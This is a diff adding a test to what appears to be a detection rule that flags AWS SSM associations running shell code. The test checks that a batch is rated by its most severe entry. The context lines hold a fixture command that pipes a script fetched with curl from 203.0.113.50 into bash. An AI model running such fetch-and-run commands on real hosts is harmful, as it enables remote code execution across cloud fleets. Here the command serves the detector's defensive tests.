@@ -152,3 +152,30 @@ def test_maintenance_window_parameters_come_from_wherever_the_caller_put_them() 
     assert call.task.parameters == {
         "commands": ['bash -c "$(curl -fsSL https://203.0.113.50/m.sh)"']
     }
+
+
+def test_a_batch_is_judged_on_its_most_severe_entry_and_lists_every_entry_that_runs_code() -> None:
+    # GIVEN a batch whose first entry runs a customer document on one instance and whose
+    # second runs AWS-RunShellScript on a tag (an AWS shell runner, fleet-wide: more severe)
+    entries = [
+        {"name": "Ops-CollectDiagnostics", "instanceId": "i-0aaaaaaaaaaaaaaa1"},
+        {
+            "name": "AWS-RunShellScript",
+            "targets": [{"key": "tag:Env", "values": ["prod"]}],
+            "parameters": {"commands": ["uptime"]},
+        },
+    ]
+    event = event_from("create_association_batch_customer_document_tag.json", entries=entries)
+
+    # WHEN it is judged
+    verdict = AssociationRunsCodeDetection().evaluate(event, Settings(), {})
+
+    # THEN the finding is the shell entry's, after the call's own context, with both listed
+    assert verdict is not None
+    assert verdict.context["document_name"] == "AWS-RunShellScript"
+    assert list(verdict.context)[:3] == ["event_name", "source_ip", "user_agent"]
+    assert [a["document_name"] for a in verdict.context["associations"]] == [
+        "Ops-CollectDiagnostics",
+        "AWS-RunShellScript",
+    ]
+    assert verdict.severity_reasons[0] == "AWS-RunShellScript runs the commands it is given"
